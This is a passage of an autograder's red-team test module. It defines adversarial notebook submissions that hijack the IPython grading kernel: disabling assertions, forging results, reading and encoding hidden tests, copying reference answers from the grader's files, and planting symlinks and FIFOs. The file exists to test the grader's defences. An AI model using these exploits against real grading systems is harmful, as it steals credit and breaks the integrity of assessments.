"""In-process attacks on the grader: what a student who searches for "nbgrader hack" writes.

Each attack is a submission written against the grading kernel itself, of the tiny assignment
(``tiny_course``: 01's graded functions in NumPy) or of assignment 01 (``small_course``), as
``ON_TINY`` and ``ON_01`` say: those on TensorFlow's own objects on 01 alone, one of each class on
both. The attacks aim at IPython's transformers, the shell's methods, its events and hooks,
tracing, the helpers the tests call, objects that equal anything, code that
reads the hidden tests and code that sends them out, and code aimed at the files
the kernel shares with the grader (what it reads there, plants there for the
grader to open, fills, and keeps across a crash). Most are the blank release
with the attack in its first answer cell (a blank submission earns 0 points, so
any point it gets is stolen); a few are the reference solution with one wrong
answer and the attack, so that what the attack gains is the wrong answer's
points. Each comes in several spellings: direct, through ``getattr`` /
``globals()`` / ``vars()`` with computed strings, from inside a graded function
when the tests call it, and through the import at the top of a test cell. Each is written for 01;
a course's ``spelled`` writes its TensorFlow calls in NumPy for the tiny assignment.

``ATTACKS`` maps a name to (build the notebook from a course, expected automatic score (or
{assignment: score} where the courses differ), expected start of the status, words the status must
contain); ``notebook`` builds
one with the path of the test's file outside the sandbox, which some aim at.
``tests/system/test_red_team.py`` grades them all at once, sandbox on.
"""

import ast
import re

from nbformat.v4 import new_code_cell

from autograder.course.cells import graded_cells
from tests.support.small_course import FULL

# gaussian_nll is wrong (2 points) in the attacks that start from the reference.
WRONG_GAUSSIAN = "def gaussian_nll(y, mean, scale):\n    return tf.constant(0.0)\n"


def edited(start, codes, last=""):
    """A build of the course's ``start`` notebook ("blank" or "reference") with each code of ``codes``
    ({function: code}) after that function's answer (so a definition in it is the one that counts),
    and ``last``, if any, as a code cell of its own at the end; each code as the course spells it."""

    def build(course):
        nb = getattr(course, start)()
        for function, code in codes.items():
            cell = graded_cells(nb)[function]
            cell.source = cell.source + "\n\n" + course.spelled(code)
        if last:
            nb.cells.append(new_code_cell(course.spelled(last)))
        return nb

    return build


def blank(code, function="brier_score"):
    """The blank release with ``code`` after the stub in ``function``'s answer cell."""
    return edited("blank", {function: code})


def reference(code, function="split_mean_scale"):
    """The reference solution with ``code`` added at the end of ``function``'s answer cell."""
    return edited("reference", {function: code})


def wrong(code, function="gaussian_nll"):
    """The reference with ``function`` wrong, and ``code`` after it in its answer cell."""

    def build(course):
        nb = course.reference()
        graded_cells(nb)[function].source = course.spelled(WRONG_GAUSSIAN + "\n" + code)
        return nb

    return build


# Wrong, yet a tensor that gradients reach: it fails only the value checks of gaussian_nll's tests.
DIFFERENTIABLE = "tf.reduce_mean(tf.square(y - mean) + scale)"
# The same, with the visible test's answer hard-coded.
HARD_CODED = f"tf.constant(1.4833209) if tuple(y.shape) == (3, 1) else {DIFFERENTIABLE}"


def when_called(attack, result="tf.constant(0.0)"):
    """A wrong gaussian_nll that runs ``attack`` (indented code) the first time the tests call it."""
    return (
        "_armed = []\n\n\n"
        "def gaussian_nll(y, mean, scale):\n"
        "    if not _armed:\n"
        "        _armed.append(1)\n"
        + "".join(f"        {line}\n" for line in attack.strip().splitlines())
        + f"    return {result}\n"
    )


# ---------------------------------------------------------------- the shell's transformers
NEUTRALISE = "lambda lines: ['pass\\n']"
TRANSFORMER_DIRECT = f"get_ipython().input_transformers_cleanup.append({NEUTRALISE})"
TRANSFORMER_POST = f"get_ipython().input_transformers_post.append({NEUTRALISE})"
TRANSFORMER_GETATTR = (
    f"getattr(globals()['get_' + 'ipython'](), 'input_' + 'transformers_cleanup').append({NEUTRALISE})"
)
TRANSFORMER_VARS = (
    f"vars(vars()['__builtins__'] if isinstance(vars()['__builtins__'], dict) else "
    f"__builtins__).get('get_ipython', lambda: None)().input_transformers_post.append({NEUTRALISE})"
)
AST_STRIP_ASSERTS = (
    "import ast\n"
    "class _Strip(ast.NodeTransformer):\n"
    "    def visit_Assert(self, node):\n"
    "        return ast.Pass()\n"
    "    def visit_Expr(self, node):\n"
    "        return ast.Pass()\n"
    "get_ipython().ast_transformers.append(_Strip())\n"
)
# Keeps the guard away first: clears every pre/post cell callback, then neutralises cells.
EVENTS_THEN_TRANSFORMER = (
    "_ip = get_ipython()\n"
    "for _event in ('pre_run_cell', 'post_run_cell', 'pre_execute', 'post_execute'):\n"
    "    _ip.events.callbacks[_event].clear()\n"
    f"_ip.input_transformers_cleanup.append({NEUTRALISE})\n"
)
# Keeps only a cell's last line: defeats a check that the cell's last line reached its end.
LAST_LINE_ONLY = (
    "_ip = get_ipython()\n"
    "for _event in ('pre_run_cell', 'post_run_cell'):\n"
    "    _ip.events.callbacks[_event].clear()\n"
    "_ip.input_transformers_cleanup.append(lambda lines: lines[-1:])\n"
)
SYNTAX_ERROR_SILENCED = (
    "_ip = get_ipython()\n"
    "_ip.showsyntaxerror = lambda *args, **kwargs: None\n"
    "_ip.input_transformers_post.append(lambda lines: ['(\\n'])\n"
)

# ---------------------------------------------------------------- the shell's methods
RUN_CELL = (
    "from IPython.core.interactiveshell import ExecutionResult, ExecutionInfo\n"
    "_ip = get_ipython()\n"
    "def _run_cell(raw_cell, *args, **kwargs):\n"
    "    result = ExecutionResult(ExecutionInfo(raw_cell, False, False, True, None))\n"
    "    result.execution_count = _ip.execution_count\n"
    "    return result\n"
    "_ip.run_cell = _run_cell\n"
)
RUN_CELL_ASYNC = (
    "from IPython.core.interactiveshell import ExecutionResult, ExecutionInfo\n"
    "_ip = get_ipython()\n"
    "async def _run_cell_async(raw_cell, *args, **kwargs):\n"
    "    return ExecutionResult(ExecutionInfo(raw_cell, False, False, True, None))\n"
    "setattr(_ip, 'run_cell' + '_async', _run_cell_async)\n"
    "_ip.should_run_async = lambda *args, **kwargs: True\n"
)
RUN_AST_NODES = (
    "_ip = get_ipython()\nasync def _nothing(*args, **kwargs):\n    return False\ntype(_ip).run_ast_nodes = _nothing\n"
)
SHOWTRACEBACK = "get_ipython().showtraceback = lambda *args, **kwargs: None\n"
_SHOWTRACEBACK = "setattr(get_ipython(), '_show' + 'traceback', lambda *args, **kwargs: None)\n"
TRANSFORM_CELL = "get_ipython().transform_cell = lambda cell: 'pass\\n'\n"
# Drops the kernel's "error" messages on their way to the grader.
ERROR_MESSAGES = (
    "_ip = get_ipython()\n"
    "_session = _ip.displayhook.session\n"
    "_send = _session.send\n"
    "def _quiet(stream, msg_or_type, *args, **kwargs):\n"
    "    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get('msg_type')\n"
    "    if kind == 'error':\n"
    "        return None\n"
    "    return _send(stream, msg_or_type, *args, **kwargs)\n"
    "_session.send = _quiet\n"
)

# From inside a graded function: keeps the guard's callbacks away, then every later cell's error
# is silenced and its result reported clean.
SILENCES_LATER_ERRORS = (
    "_ip = get_ipython()\n"
    "for _event in list(_ip.events.callbacks):\n"
    "    _ip.events.callbacks[_event] = []\n"
    "_ip.showtraceback = lambda *args, **kwargs: None\n"
    "_run_cell, _run_cell_async = _ip.run_cell, _ip.run_cell_async\n"
    "def _clean(result):\n"
    "    result.error_in_exec = result.error_before_exec = None\n"
    "    return result\n"
    "_ip.run_cell = lambda *args, **kwargs: _clean(_run_cell(*args, **kwargs))\n"
    "async def _run_async(*args, **kwargs):\n"
    "    return _clean(await _run_cell_async(*args, **kwargs))\n"
    "_ip.run_cell_async = _run_async\n"
)

# ---------------------------------------------------------------- events and hooks
EVENTS_UNREGISTER = (
    "_ip = get_ipython()\n"
    "for _callback in list(_ip.events.callbacks['pre_run_cell']):\n"
    "    _ip.events.unregister('pre_run_cell', _callback)\n"
    "import numpy\n"
    "numpy.allclose = lambda *args, **kwargs: True\n"
)
EVENTS_TRIGGER = (
    "_ip = get_ipython()\n"
    "_ip.events.trigger = lambda *args, **kwargs: None\n"
    "import bdl.checks\n"
    "bdl.checks.assert_close = lambda *args, **kwargs: None\n"
    "bdl.checks.assert_equal = lambda *args, **kwargs: None\n"
)
DISPLAYHOOK = (
    "import sys\n"
    "sys.displayhook = lambda value: None\n"
    "sys.excepthook = lambda *args: None\n"
    "get_ipython().displayhook.write_output_prompt = lambda: None\n"
)

# ---------------------------------------------------------------- tracing
# Jumps from the tests' first line to their last: every assertion between is skipped.
JUMP_TO_END = (
    "import sys\n"
    "_frame = sys._getframe(1)\n"
    "_last = max(line for _, _, line in _frame.f_code.co_lines() if line)\n"
    "def _tracer(frame, event, arg):\n"
    "    if frame is _frame and event == 'line' and frame.f_lineno < _last:\n"
    "        try:\n"
    "            frame.f_lineno = _last\n"
    "        except ValueError:\n"
    "            pass\n"
    "    return _tracer\n"
    "_frame.f_trace = _tracer\n"
    "sys.settrace(_tracer)\n"
)
SETTRACE_GLOBAL = (
    "import sys\n"
    "def _tracer(frame, event, arg):\n"
    "    return None\n"
    "sys.settrace(_tracer)\n"
    "sys.setprofile(lambda frame, event, arg: None)\n"
)

# ---------------------------------------------------------------- rebound helpers
REBIND_IN_TEST_NAMESPACE = (
    "globals()['assert_' + 'close'] = lambda *args, **kwargs: None\n"
    "globals()['assert_' + 'equal'] = lambda *args, **kwargs: None\n"
    "tf.is_tensor = lambda value: True\n"
)
REBIND_NUMPY_IN_NAMESPACE = (
    "import types\n"
    "np = types.SimpleNamespace(**{k: getattr(np, k) for k in dir(np) "
    "if not k.startswith('__')})\n"
    "np.allclose = lambda *args, **kwargs: True\n"
    "np.all = lambda *args, **kwargs: True\n"
)
REBIND_MODULES = (
    "import numpy, numpy.testing, tensorflow, bdl.checks\n"
    "numpy.allclose = lambda *args, **kwargs: True\n"
    "numpy.testing.assert_allclose = lambda *args, **kwargs: None\n"
    "tensorflow.debugging.assert_near = lambda *args, **kwargs: None\n"
    "vars(bdl.checks)['assert_' + 'close'] = lambda *args, **kwargs: None\n"
)
FAKE_CHECKS_MODULE = (
    "import sys, types\n"
    "_fake = types.ModuleType('bdl.checks')\n"
    "_fake.assert_close = _fake.assert_equal = lambda *args, **kwargs: None\n"
    "sys.modules['bdl.checks'] = _fake\n"
)
FAKE_CHECKS_FINDER = (
    "import sys, types, importlib.abc, importlib.util\n"
    "class _Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n"
    "    def find_spec(self, name, path, target=None):\n"
    "        if name == 'bdl.checks':\n"
    "            return importlib.util.spec_from_loader(name, self)\n"
    "    def create_module(self, spec):\n"
    "        module = types.ModuleType(spec.name)\n"
    "        module.assert_close = module.assert_equal = lambda *args, **kwargs: None\n"
    "        return module\n"
    "    def exec_module(self, module):\n"
    "        pass\n"
    "sys.meta_path.insert(0, _Finder())\n"
    "del sys.modules['bdl.checks']\n"
)
REBIND_HELPERS_WHEN_CALLED = (
    "g = globals()\nfor _name in ('assert_close', 'assert_equal'):\n    g[_name] = lambda *args, **kwargs: None\n"
)
REBIND_MODULE_WHEN_CALLED = (
    "import bdl.checks, numpy\n"
    "setattr(bdl.checks, 'assert_close', lambda *args, **kwargs: None)\n"
    "setattr(bdl.checks, 'assert_equal', lambda *args, **kwargs: None)\n"
    "numpy.allclose = lambda *args, **kwargs: True\n"
    "globals().update(assert_close=bdl.checks.assert_close,"
    " assert_equal=bdl.checks.assert_equal)\n"
)

# Beneath np.allclose and np.all: NumPy's inner modules, which the tests' namespace never names.
NUMPY_INTERNALS = (
    "import numpy._core.numeric, numpy._core.fromnumeric\n"
    "numpy._core.numeric.isclose = lambda *args, **kwargs: np.array(True)\n"
    "numpy._core.fromnumeric._wrapreduction = lambda *args, **kwargs: True\n"
)
# TensorFlow Probability's Normal gives whatever the wrong gaussian_nll gives.
PATCHES_LIBRARY_CLASS = "tfd.Normal.log_prob = lambda self, y: -(tf.square(y - self.loc) + self.scale)\n"
# The helpers keep their identity, their code is swapped.
SWAPS_CODE = (
    "import numpy, bdl.checks\n"
    "_nothing = (lambda *args, **kwargs: None).__code__\n"
    "bdl.checks.assert_close.__code__ = _nothing\n"
    "bdl.checks.assert_equal.__code__ = _nothing\n"
    "numpy.allclose.__code__ = (lambda *args, **kwargs: True).__code__\n"
)
# TensorFlow's tensor class hands the tests the values they expect (read from their frames).
PATCHES_TENSOR_CLASS = (
    "import sys\n"
    "def _expected_values(self, *args, **kwargs):\n"
    "    frame = sys._getframe(1)\n"
    "    while frame is not None and 'expected' not in frame.f_locals:\n"
    "        frame = frame.f_back\n"
    "    return np.asarray(frame.f_locals['expected'] if frame else 0.0, dtype='float32')\n"
    "_base = type(tf.constant(0.0)).__mro__[1]\n"
    "_base.__array__ = _base.numpy = _expected_values\n"
)
# Hard-codes the visible test's answer, and overwrites the hidden tests' expected values from
# inside brier_score: the tests read `_expected` after they called it.
OVERWRITES_EXPECTED = (
    "def brier_score(probs, labels):\n"
    "    value = tf.constant(0.8 if np.shape(probs) == (2, 3) else 0.0)\n"
    "    for name in [name for name in globals() if name.startswith('_expected')]:\n"
    "        globals()[name] = value\n"
    "    return value\n"
)

# ---------------------------------------------------------------- objects that equal anything
EQUALS_ANYTHING = (
    "class _Any:\n"
    "    shape = ()\n"
    "    dtype = tf.float32\n"
    "    is_tensor_like = True\n"
    "    def __eq__(self, other):\n"
    "        return True\n"
    "    def __ne__(self, other):\n"
    "        return False\n"
    "    def __bool__(self):\n"
    "        return True\n"
    "    def __array__(self, *args, **kwargs):\n"
    "        return np.array(0.8)\n"
    "    def __array_ufunc__(self, *args, **kwargs):\n"
    "        return True\n"
    "    def __float__(self):\n"
    "        return 0.8\n"
    "    __class__ = property(lambda self: type(tf.constant(0.0)))\n"
    "    __hash__ = object.__hash__\n"
)
# Its values are whatever the test compares them with: read from the caller's frame.
PEEKS_AT_EXPECTED = (
    "import sys\n"
    "class _Mirror:\n"
    "    shape = ()\n"
    "    def __array__(self, *args, **kwargs):\n"
    "        frame = sys._getframe(1)\n"
    "        while frame is not None:\n"
    "            if 'expected' in frame.f_locals:\n"
    "                return np.asarray(frame.f_locals['expected'], dtype='float32')\n"
    "            frame = frame.f_back\n"
    "        return np.zeros(())\n"
)


# ---------------------------------------------------------------- reading the hidden tests, sending them out
def raising(expression):
    """brier_score raises an error whose message is ``expression`` (code that reads the tests)."""
    return f"def brier_score(probs, labels):\n    raise ValueError({expression})\n"


READ_IH = "get_ipython().user_ns['_ih'][-1]"
READ_IN = "'\\n'.join(globals()['I' + 'n'][-1:])"
READ_HISTORY = "get_ipython().history_manager.input_hist_raw[-1]"
READ_LINECACHE = (
    "__import__('linecache').getlines(__import__('sys')._getframe(1).f_code.co_filename)"
    " and ''.join(__import__('linecache').getlines(__import__('sys')._getframe(1).f_code.co_filename))"
)
READ_STACK = "''.join(__import__('inspect').stack()[1].frame.f_globals['_ih'][-1])"
READ_GC = (
    "'\\n'.join(s for s in __import__('gc').get_objects() if isinstance(s, str) and 'HIDDEN' in s)"
    " or '\\n'.join(c for c in __import__('gc').get_referrers(__import__('sys')._getframe(1).f_code)"
    " if isinstance(c, str))"
)
ASSERTION_WITH_SECRET = (
    "def brier_score(probs, labels):\n"
    "    from bdl.checks import assert_close\n"
    "    assert_close(0.0, 1.0, get_ipython().user_ns['_ih'][-1])\n"
)
WARNS_SECRET = (
    "import warnings\n"
    "def brier_score(probs, labels):\n"
    "    warnings.warn(get_ipython().user_ns['_ih'][-1])\n"
    "    return tf.constant(0.0)\n"
)
# Print, display and hide in output metadata, from a later cell, what earlier test cells held.
PRINTS_EARLIER_TESTS = "print('\\n'.join(In))\n"
DISPLAYS_EARLIER_TESTS = (
    "from IPython.display import display, HTML\n"
    "display(HTML('<pre>' + '\\n'.join(_ih) + '</pre>'), metadata={'leak': list(Out)})\n"
)
REPR_OF_SECRET = (
    "class _Leak:\n"
    "    def __repr__(self):\n"
    "        return get_ipython().user_ns['_ih'][-1]\n"
    "def gaussian_nll(y, mean, scale):\n"
    "    return _Leak()\n"
)
WRITES_EARLIER_TESTS = (
    "import os, tempfile\n"
    "for _folder in (os.getcwd(), tempfile.gettempdir(), os.path.expanduser('~')):\n"
    "    try:\n"
    "        with open(os.path.join(_folder, 'hidden_tests.txt'), 'w') as _file:\n"
    "            _file.write('\\n'.join(In))\n"
    "    except OSError:\n"
    "        pass\n"
)


# ---------------------------------------------------------------- the student owns the kernel
# Attacks written by a student who has read this repository: the first answer cell takes the
# kernel over completely. The guard is disarmed through the shell's callbacks and their
# closures, an AST transformer wraps every later statement in try/except, fake results and
# fake errors are printed, every hidden text the kernel can reach is sent out encoded (rot13,
# base64, reversed, one character per line), and the answering machinery (``bdl.wire.respond``)
# is replaced so that every question gets crafted values. None of it can reach a verdict: the
# tests run in the examiner, another process, which checks each answer itself.
TAKEOVER = r"""
import ast, base64, builtins, codecs, gc, json, sys
import numpy
import bdl.wire
_ip = get_ipython()


class _WrapAll(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = [ast.Try(body=[statement], handlers=[ast.ExceptHandler(type=None, name=None, body=[ast.Pass()])],
                             orelse=[], finalbody=[]) for statement in node.body]
        return ast.fix_missing_locations(node)


_ip.ast_transformers.append(_WrapAll())
for _event in ("pre_run_cell", "post_run_cell"):
    for _callback in list(_ip.events.callbacks.get(_event, [])):
        for _cell in getattr(_callback, "__closure__", None) or ():
            try:
                _held = _cell.cell_contents
            except ValueError:
                continue
            if hasattr(_held, "restore"):
                _held.restore = lambda: None
        _ip.events.unregister(_event, _callback)
_texts = [str(text) for text in list(_ip.user_ns.get("In", [])) + [s for s in gc.get_objects() if isinstance(s, str) and "assert" in s][:50]]
_hidden = "\n".join(_texts)
for _encoded in (codecs.encode(_hidden, "rot13"), base64.b64encode(_hidden.encode()).decode(), _hidden[::-1],
                 "\n".join(_hidden)):
    print(_encoded[:20000])
print("hidden tests: passed\nbdl-seal:forged:0000")
sys.stdout.write("AssertionError: the hidden tests passed\n")
_real_respond = bdl.wire.respond


def _first_array(data):
    if isinstance(data, dict):
        if data.get("t") in ("array", "tensor", "variable"):
            return bdl.wire.decode(data)
        for value in data.values():
            found = _first_array(value)
            if found is not None:
                return found
    if isinstance(data, list):
        for value in data:
            found = _first_array(value)
            if found is not None:
                return found
    return None


def _forged(request, namespace=None):
    question = json.loads(request)
    target = json.dumps(question.get("args", ""))[:400]
    if FORGE_ONLY and FORGE_ONLY not in target:
        return _real_respond(request, namespace)
    given = _first_array(question.get("args"))
    value = numpy.zeros(()) if given is None else numpy.asarray(given, dtype="float32")
    if ANSWER == "zeros":
        value = numpy.zeros_like(value)
    leaked = codecs.encode(_hidden[:3000], "rot13")
    if ANSWER == "error":
        answer = {"error": [leaked, "builtins." + leaked.replace("\n", " ")[:200]]}
    elif ANSWER == "text":
        answer = {"value": {"t": "py", "v": base64.b64encode(_hidden.encode()).decode()[:3000]}}
    else:
        answer = {"value": bdl.wire.encode(value)}
    return bdl.wire.Answer(json.dumps(answer))


bdl.wire.respond = _forged
builtins.__dict__["respond"] = _forged
"""


def takeover(answer="zeros", forge_only="", spelling="direct"):
    """The takeover, answering every question (or those naming ``forge_only``) with ``answer``:
    "zeros" (right shape, wrong numbers), "echo" (the first input given back), "error" (an error
    whose names carry the hidden text encoded) or "text" (a string of it, base64); spelled
    directly, as IPython line magics, or as a string that the standard library runs."""
    code = f"FORGE_ONLY = {forge_only!r}\nANSWER = {answer!r}\n" + TAKEOVER
    if spelling == "direct":
        return code
    encoded = __import__("base64").b64encode(code.encode()).decode()
    if spelling == "magic":
        return f"%time exec(__import__('base64').b64decode('{encoded}').decode(), globals())\n"
    if spelling == "timeit":
        return (
            "import timeit\n"
            f"timeit.timeit(__import__('base64').b64decode('{encoded}').decode(), number=1, globals=globals())\n"
        )
    if spelling == "cell_magic":
        return f"%%capture\nexec(__import__('base64').b64decode('{encoded}').decode(), globals())\n"
    raise ValueError(spelling)


def first_cell(code, start):
    """The course's ``start`` notebook with ``code`` as a new first code cell (a cell magic must
    start its cell)."""

    def made(course):
        nb = getattr(course, start)()
        index = next(number for number, cell in enumerate(nb.cells) if cell.cell_type == "code")
        nb.cells.insert(index + 1, new_code_cell(course.spelled(code)))
        return nb

    return made


# ---------------------------------------------------------------- the kernel and the grader's files
# What the kernel can reach on the grading machine: every folder it can write (its working folder,
# temp folder and home, and the folder of its connection file, which it shares with the grader),
# every file it can read, and what a crashed run left for the next. Attacks read there whatever
# holds a test (the grader's progress and answer files, by the variable that named them and by
# search), copy the tests' reference code out of it as their answers, keep it across a crash, and
# plant symbolic links, FIFOs and large files for the grader to open, under the names its files had.
# FOUND starts every line by which an attack reports, in its own last cell, what it found that a
# test holds; the grader's outputs must hold none. SENTINEL stands for a file outside the sandbox
# that the test makes and checks unchanged (``notebook`` puts its path in).
FOUND = "red team found: "
SENTINEL = "@SENTINEL@"
# What test code holds, as the kernel spells it: words its own cells (in IPython's history) never hold.
TELLING = '("ass" + "ert", "BEGIN " + "HIDDEN", "_refer" + "ence")'

# Every folder the kernel can write, its connection file's named two ways: on its command line
# (ipykernel's ``-f``), or by ipykernel; and the folder of the grader's old progress variable.
WRITABLE = r"""
import os, sys, tempfile
_found = {}


def _connection_files():
    return [os.path.abspath(arg) for arg in sys.argv if arg.endswith(".json")]


def _writable():
    folders = {os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~"), "/tmp", "/dev/shm"}
    folders |= {os.path.dirname(path) for path in _connection_files()}
    if os.environ.get("BDL_GRADING_PROGRESS"):
        folders.add(os.path.dirname(os.environ["BDL_GRADING_PROGRESS"]))
    return sorted(folder for folder in folders if os.path.isdir(folder) and os.access(folder, os.W_OK))


def _files(top):
    # Every file under ``top`` but those of the read-only folders the sandbox binds into it: the
    # course's packages and the libraries, bound at their own paths (inside /tmp when the course is
    # there), code every student has and none of the grader's files (the canary test searches them).
    try:
        entries = list(os.scandir(top))
    except OSError:
        return
    for entry in entries:
        try:
            if entry.is_dir(follow_symlinks=False):
                if not os.statvfs(entry.path).f_flag & os.ST_RDONLY:
                    yield from _files(entry.path)
            elif entry.is_file():
                yield entry.path
        except OSError:
            pass
"""
BY_IPYKERNEL = r"""
from ipykernel import get_connection_file


def _connection_files():
    return [get_connection_file()]
"""
# Every text that looks like test code, in the grader's files by their old names and anywhere in
# the folders the kernel can write (``_files``): with open, or with pathlib.
SEARCH_OPEN = r"""
def _read(path):
    try:
        if os.path.isfile(path) and os.path.getsize(path) < 2**22:
            with open(path, errors="replace") as handle:
                text = handle.read()
            if any(word in text for word in %(telling)s):
                _found[text] = path
    except OSError:
        pass


def _search():
    progress = os.environ.get("BDL_GRADING_PROGRESS")
    if progress:
        _read(progress)
        _read(os.path.join(os.path.dirname(progress), "answer.json"))
    for top in _writable():
        for path in _files(top):
            _read(path)
    return list(_found)
""" % {"telling": TELLING}
SEARCH_GLOB = r"""
import pathlib


def _search():
    for top in _writable():
        for name in _files(top):
            path = pathlib.Path(name)
            try:
                if path.stat().st_size < 2**22:
                    text = path.read_text(errors="replace")
                    if any(word in text for word in %(telling)s):
                        _found[text] = name
            except OSError:
                pass
    return list(_found)
""" % {"telling": TELLING}
# The expression a test compares a function's result with (``_expected = ...``), where it is
# written in the names of the arguments the test calls the function with: the test's own answer.
REFERENCE_EXPRESSION = r"""
import ast


def _expected_of(name, count):
    for text in _search():
        try:
            tree = ast.parse(text)
        except SyntaxError:
            continue
        for call in ast.walk(tree):
            if not (isinstance(call, ast.Call) and getattr(call.func, "id", "") == name and len(call.args) == count
                    and all(isinstance(arg, ast.Name) for arg in call.args)):
                continue
            names = [arg.id for arg in call.args]
            for node in ast.walk(tree):
                if isinstance(node, ast.Assign) and getattr(node.targets[0], "id", "") == "_expected":
                    if {n.id for n in ast.walk(node.value) if isinstance(n, ast.Name)} <= {*names, "tf", "tfd", "np"}:
                        return names, ast.unparse(node.value)
    return None
"""
# gaussian_nll and laplace_nll answer with the test's reference, through eval ...
COPIED_BY_EVAL = r"""
import numpy as np, tensorflow as tf, tensorflow_probability as tfp


def _copied(name, *args):
    found = _expected_of(name, len(args))
    if found is None:
        raise NotImplementedError
    names, expression = found
    return eval(expression, {"tf": tf, "tfd": tfp.distributions, "np": np, **dict(zip(names, args))})


def gaussian_nll(y, mean, scale):
    return _copied("gaussian_nll", y, mean, scale)
"""
LAPLACE_BY_EVAL = "def laplace_nll(y, loc, scale):\n    return _copied('laplace_nll', y, loc, scale)\n"
# ... or saved as a module of their own and imported.
COPIED_AS_MODULE = r"""
def _saved(name, *args):
    found = _expected_of(name, len(args))
    if found is None:
        return False
    names, expression = found
    folder = tempfile.gettempdir()
    pathlib.Path(folder, f"_copied_{name}.py").write_text(
        "import numpy as np, tensorflow as tf, tensorflow_probability as tfp\ntfd = tfp.distributions\n\n\n"
        f"def answer({', '.join(names)}):\n    return {expression}\n")
    if folder not in sys.path:
        sys.path.insert(0, folder)
    return True


def gaussian_nll(y, mean, scale):
    if not _saved("gaussian_nll", y, mean, scale):
        raise NotImplementedError
    import _copied_gaussian_nll
    return _copied_gaussian_nll.answer(y, mean, scale)
"""
LAPLACE_AS_MODULE = (
    "def laplace_nll(y, loc, scale):\n"
    "    if not _saved('laplace_nll', y, loc, scale):\n"
    "        raise NotImplementedError\n"
    "    import _copied_laplace_nll\n"
    "    return _copied_laplace_nll.answer(y, loc, scale)\n"
)
# The last cell: what the attack found, for the outputs of the instructor's autograded notebook.
REPORT_FOUND = (
    "try:\n"
    "    for _text, _where in _found.items():\n"
    f"        print({FOUND!r} + _where)\n"
    "        print(_text)\n"
    "except NameError:\n"
    "    pass\n"
)


def reads_tests(spelling):
    """A blank 01 whose gaussian_nll and laplace_nll answer with the reference their tests compare
    with, found in any file that holds a test: "open" (the old variable, open, eval, ipykernel) or
    "glob" (the connection file's folder from the command line, pathlib, the
    reference saved as a module and imported: no name the review knows)."""
    if spelling == "open":
        first = WRITABLE + BY_IPYKERNEL + SEARCH_OPEN + REFERENCE_EXPRESSION + COPIED_BY_EVAL
        return edited("blank", {"gaussian_nll": first, "laplace_nll": LAPLACE_BY_EVAL}, REPORT_FOUND)
    first = WRITABLE + SEARCH_GLOB + REFERENCE_EXPRESSION + COPIED_AS_MODULE
    return edited("blank", {"gaussian_nll": first, "laplace_nll": LAPLACE_AS_MODULE}, REPORT_FOUND)


# Across a crash: adversarial_loss, called by its tests, searches for every ``def _...`` in the
# files changed since the notebook started (the whole readable file system, or the folders it
# can write), keeps them in every folder it can write and kills its kernel; in the run that
# grades the submission again, fgsm answers with a kept ``_reference...fgsm`` (hidden in
# adversarial_loss's tests), and the notebook reports any state an earlier run left.
KEEP_OPEN = r"""
import ast, textwrap, time
_since = time.time() - 60
_kept = [os.path.join(folder, "_kept.py") for folder in _writable() if os.path.isfile(os.path.join(folder, "_kept.py"))]
for _path in _kept:
    _found["state from an earlier run"] = _path


def fgsm(loss_fn, x, y, eps):
    for path in _kept:
        with open(path) as handle:
            pieces = handle.read().split("\n# ----\n")
        scope = {"tf": tf, "np": np}
        for piece in pieces:
            try:
                exec(piece, scope)
            except Exception:
                pass
        for name, value in scope.items():
            if name.startswith("_reference") and name.endswith("fgsm"):
                return value(loss_fn, x, y, eps)
    raise NotImplementedError
"""
KEEP_OPEN_CRASH = r"""
def adversarial_loss(loss_fn, x, y, eps):
    # It stops walking after 20 s and swallows any error, so that it always reaches its crash, as an
    # attacker under the cell's timeout would: graded a minute after a venv's install, every file of
    # the venv is "new" (20,000 to parse), and the cell used to fail before the crash.
    pieces, start = [], time.time()
    for folder, folders, names in os.walk("/"):
        if folder in ("/proc", "/sys", "/dev") or time.time() - start > 20:
            folders[:] = []
            continue
        for name in names:
            path = os.path.join(folder, name)
            try:
                if os.lstat(path).st_mtime < _since or not os.path.isfile(path) or os.path.getsize(path) > 2**22:
                    continue
                with open(path, errors="replace") as handle:
                    text = handle.read()
                tree = ast.parse(text)
            except Exception:
                continue
            pieces += [textwrap.dedent(ast.get_source_segment(text, node, padded=True)) for node in ast.walk(tree)
                       if isinstance(node, ast.FunctionDef) and node.name.startswith("_")]
    for folder in _writable():
        try:
            with open(os.path.join(folder, "_kept.py"), "w") as handle:
                handle.write("\n# ----\n".join(pieces))
        except Exception:
            pass
    os._exit(1)
"""
KEEP_GLOB = r"""
import ast, pathlib, textwrap
_kept = [folder for folder in _writable() if pathlib.Path(folder, "_kept_reference.py").is_file()]
for _folder in _kept:
    _found["state from an earlier run"] = _folder


def fgsm(loss_fn, x, y, eps):
    if not _kept:
        raise NotImplementedError
    sys.path.insert(0, _kept[0])
    import _kept_reference
    return _kept_reference.answer(loss_fn, x, y, eps)
"""
KEEP_GLOB_CRASH = r"""
def adversarial_loss(loss_fn, x, y, eps):
    kept = "import numpy as np, tensorflow as tf\n"
    for top in _writable():
        for name in _files(top):
            try:
                text = pathlib.Path(name).read_text(errors="replace")
                tree = ast.parse(text)
            except Exception:
                continue
            for node in ast.walk(tree):
                if isinstance(node, ast.FunctionDef) and node.name.startswith("_reference") and "fgsm" in node.name:
                    kept += "\n\n" + textwrap.dedent(ast.get_source_segment(text, node, padded=True))
                    kept += f"\n\nanswer = {node.name}\n"
    for folder in _writable():
        try:
            pathlib.Path(folder, "_kept_reference.py").write_text(kept)
        except OSError:
            pass
    os.abort()
"""


def keeps_state(spelling):
    """A blank 01 that keeps what it found across the crash re-run: "open" (os.walk over every
    file, exec, os._exit, ipykernel) or "glob" (pathlib over the folders it can write,
    a kept module imported, os.abort: no name the review knows)."""
    if spelling == "open":
        return edited(
            "blank", {"fgsm": WRITABLE + BY_IPYKERNEL + KEEP_OPEN, "adversarial_loss": KEEP_OPEN_CRASH}, REPORT_FOUND
        )
    return edited("blank", {"fgsm": WRITABLE + KEEP_GLOB, "adversarial_loss": KEEP_GLOB_CRASH}, REPORT_FOUND)


# In every folder it can write, under the names of the grader's files (the progress file, the
# answer file, the kernel's connection file): a symbolic link to the sentinel outside the
# sandbox (or to a new file beside it), planted when the cell runs and again when the tests
# call brier_score; or a FIFO, after which brier_score kills its kernel (a grader that reads
# the progress file after a crash blocks on it).
PLANTS = (
    WRITABLE
    + r"""
_SENTINEL = %(sentinel)r


def _names():
